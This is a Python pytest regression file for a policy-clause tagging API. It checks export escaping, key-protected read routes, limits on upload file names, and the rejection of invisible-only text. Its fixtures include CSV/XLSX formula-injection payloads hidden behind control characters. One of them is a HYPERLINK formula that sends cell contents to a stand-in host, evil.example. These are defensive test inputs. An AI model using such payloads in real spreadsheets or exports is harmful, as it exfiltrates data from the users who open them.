"""Regression tests for the reliability issue's items 3, 10, 11, 13 and 14: formula escaping in
exports defeated by a control character, reads left open under TAGGER_REQUIRE_KEY_FOR_READS,
over-long upload names (500; stored but not readable back), and invisible-only clause texts.
Real HTTP against uvicorn on a loopback port, with the committed bundle."""

from __future__ import annotations

import csv
import io
import re

import httpx
import pytest

from tagger.api import create_app
from tagger.config import Settings

from ..conftest import serve

KEY = "test-key-0123456789"
CLAUSE = "对新引进的人工智能企业，按实际租金的50%给予三年房租补贴。"


@pytest.fixture(scope="module")
def base_url(tmp_path_factory, tagger):
    settings = Settings(api_keys=(KEY,), database_url=f"sqlite:///{tmp_path_factory.mktemp('db') / 'rel.db'}")
    yield from serve(create_app(settings, tagger=tagger))


def auth() -> dict:
    return {"Authorization": f"Bearer {KEY}"}


# -- 3. exports: illegal characters are dropped first, then formulas escaped ---------------------
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'
FORMULAS = [  # a control character before a formula
    "\u0001" + HYPERLINK + "。",
    "\u0008=1+1，给予补贴。",
    "\u0000@SUM(A1)，给予奖励。",
    "\u0001\u0008-2+3，支持企业发展。",
]
NONCHARACTERS = "第五条 支持\ufffe企业\uffff发展，给予\U0001fffe资助。"


@pytest.fixture(scope="module", params=["formulas", "formulas-and-noncharacters"])
def hostile_doc(base_url, request):
    """A stored document whose clauses, title and region hide formulas behind control
    characters (and, in the second, a clause holding U+FFFE, U+FFFF, U+1FFFE)."""
    lines = ["第一条 对人工智能企业给予房租补贴。", *FORMULAS] + ([NONCHARACTERS] if "non" in request.param else [])
    doc = {"text": "\n".join(lines), "doc": "hostile-" + request.param, "title": "\u0001" + HYPERLINK, "region": "\u0008=1+2"}
    r = httpx.post(base_url + "/v1/documents?store=true&evidence=false", json=doc, headers=auth(), timeout=60)
    assert r.status_code == 200, r.text
    texts = [c["text"] for c in r.json()["data"]]
    # The segmenter keeps the characters: the store holds clauses that start with them.
    assert any(t.startswith("\u0001=HYPERLINK") for t in texts), texts
    assert ("non" in request.param) == any("\ufffe" in t for t in texts), texts
    return doc["doc"], r.json()["stored"][0]["clauses"], "non" in request.param


def _all_strings(rows):
    return [v for row in rows for v in row if isinstance(v, str)]


def test_xlsx_export_never_holds_a_formula_and_always_opens(base_url, hostile_doc):
    from openpyxl import load_workbook

    doc, n, nonchars = hostile_doc
    r = httpx.get(base_url + "/v1/clauses/export", params={"format": "xlsx", "doc": doc}, timeout=60)
    assert r.status_code == 200
    wb = load_workbook(io.BytesIO(r.content))  # not well-formed XML would raise here
    ws = wb["clauses"]
    cells = [c for row in ws.iter_rows() for c in row]
    assert n >= 5 and len(list(ws.iter_rows())) == 1 + n
    assert not [c.value for c in cells if c.data_type == "f"], "a cell is a formula"
    values = [c.value for c in cells if isinstance(c.value, str)]
    assert not [v for v in values if re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff\U0001fffe]", v)]
    assert not [v for v in values if v.startswith(("=", "+", "-", "@"))]
    # The text survives, escaped: what was hidden behind the control character shows as text.
    assert "'" + HYPERLINK + "。" in values and "'" + HYPERLINK in values  # text and doc_title
    assert "'=1+2" in values and "'@SUM(A1)，给予奖励。" in values and "'-2+3，支持企业发展。" in values
    assert any(v.startswith("第五条支持企业发展") for v in values) == nonchars
    # The raw sheet XML: no formula element at all.
    import zipfile

    with zipfile.ZipFile(io.BytesIO(r.content)) as z:
        sheet = z.read(next(p for p in z.namelist() if p.startswith("xl/worksheets/"))).decode("utf-8")
    assert "<f>" not in sheet and "<f " not in sheet


def test_csv_export_strips_then_escapes(base_url, hostile_doc):
    doc, n, nonchars = hostile_doc
    r = httpx.get(base_url + "/v1/clauses/export", params={"format": "csv", "doc": doc}, timeout=60)
    assert r.status_code == 200
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    assert n >= 5 and len(rows) == 1 + n
    values = _all_strings(rows[1:])
    assert not [v for v in values if re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff\U0001fffe]", v)]
    assert not [v for v in values if v.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert "'" + HYPERLINK + "。" in values and "'" + HYPERLINK in values and "'=1+2" in values


# -- 10. TAGGER_REQUIRE_KEY_FOR_READS covers every /v1/ route but /v1/health ------------------------
def test_reads_key_covers_every_v1_route_but_health(tmp_path, tagger):
    st = Settings(api_keys=(KEY,), require_key_for_reads=True, database_url=f"sqlite:///{tmp_path / 'r.db'}")
    app = create_app(st, tagger=tagger)
    # From the OpenAPI document: every route the app declares, whatever routers they are in.
    paths = app.openapi()["paths"]
    routes = [(m.upper(), p) for p, ops in paths.items() if p.startswith("/v1/") for m in ops]
    assert ("GET", "/v1/model") in routes and ("GET", "/v1/ready") in routes
    for url in serve(app):
        open_ = []
        for method, path in routes:
            if path == "/v1/health":
                continue
            concrete = re.sub(r"\{[^}]+\}", "x", path)
            r = httpx.request(method, url + concrete, timeout=30)
            if r.status_code != 401:
                open_.append((method, path, r.status_code))
        assert not open_, f"answered without a key: {open_}"
        assert httpx.get(url + "/v1/health").status_code == 200  # the probe stays open
        assert httpx.get(url + "/v1/ready", headers=auth()).status_code == 200
        r = httpx.get(url + "/v1/model", headers=auth())
        assert r.status_code == 200 and "heads" in r.json()


# -- 11, 13. upload names: never a 500, a stored document is always readable back ------------------
def _upload(base_url: str, name: bytes, store: bool = False, text: str = "第一条 支持人工智能企业发展，给予房租补贴。") -> httpx.Response:
    # Built by hand, as a client that does not clean or re-encode file names sends them.
    body = (b"--B\r\nContent-Disposition: form-data; name=\"file\"; filename=\"" + name + b"\"\r\n"
            b"Content-Type: text/plain\r\n\r\n" + text.encode() + b"\r\n--B--\r\n")
    headers = {"Content-Type": "multipart/form-data; boundary=B", **(auth() if store else {})}
    return httpx.post(base_url + "/v1/documents" + ("?store=true&evidence=false" if store else ""), content=body, headers=headers, timeout=60)


@pytest.mark.parametrize("name", [b"x" * 252, b"y" * 255, "政策".encode() * 42 + b"abc", b"z" * 251 + b".txt", b"w" * 250 + b".TXT"])
def test_upload_names_up_to_255_bytes_are_accepted_and_readable_back(base_url, name):
    assert len(name) <= 255
    r = _upload(base_url, name, store=True)
    assert r.status_code == 200, r.text
    (stored,) = r.json()["stored"]
    assert stored["status"] in ("inserted", "unchanged") and len(stored["doc"]) <= 200
    got = httpx.get(base_url + "/v1/documents/" + stored["doc"])
    assert got.status_code == 200, got.text
    assert got.json()["document"]["id"] == stored["doc"] and got.json()["count"] >= 1


def test_long_upload_name_gets_a_stable_unique_readable_id(base_url):
    a, b = b"a" * 225 + b"1.txt", b"a" * 225 + b"2.txt"  # 230 characters, the same first 225
    r1, r2 = _upload(base_url, a, store=True), _upload(base_url, b, store=True)
    assert r1.status_code == r2.status_code == 200, (r1.text, r2.text)
    id1, id2 = r1.json()["stored"][0]["doc"], r2.json()["stored"][0]["doc"]
    assert id1 != id2 and len(id1) <= 200 and id1.startswith("a" * 100)
    for doc_id in (id1, id2):
        assert httpx.get(base_url + "/v1/documents/" + doc_id).status_code == 200
    # The same name gives the same id: storing again is idempotent.
    again = _upload(base_url, a, store=True)
    assert again.json()["stored"][0] == {**r1.json()["stored"][0], "status": "unchanged"}
    # Without ?store the answer names the same id.
    assert _upload(base_url, a).json()["documents"][0]["id"] == id1


def test_upload_names_over_255_bytes_are_a_clean_422(base_url):
    for name in (b"x" * 256, b"x" * 300 + b".txt", "政".encode() * 86):
        r = _upload(base_url, name)
        assert r.status_code == 422 and "255 bytes" in r.json()["message"], r.text


# -- 14. a text with nothing visible is refused, like "" --------------------------------------------
@pytest.mark.parametrize("text", ["\u200b", "\ufeff", "\u0000", " \u200b\ufeff\u200d\n\u3000", "\u2060\u00ad\u0001", "\ufffe"])
def test_invisible_only_text_is_422(base_url, text):
    for path, body in (("/v1/tag", {"text": text}), ("/v1/tag", {"clauses": [{"id": "a", "text": text}]}),
                       ("/v1/tag", {"clauses": [{"id": "a", "text": CLAUSE}, {"id": "b", "text": text}]}),
                       ("/v1/documents", {"text": text})):
        r = httpx.post(base_url + path, json=body, timeout=30)
        assert r.status_code == 422, (path, body, r.text)
        assert "text" in r.json()["message"] and "empty" in r.json()["message"], r.text


def test_text_with_invisible_characters_around_words_is_still_tagged(base_url):
    r = httpx.post(base_url + "/v1/tag", json={"clauses": [{"id": "a", "text": "\u200b" + CLAUSE + "\ufeff"}]}, timeout=30)
    assert r.status_code == 200 and r.json()["count"] == 1
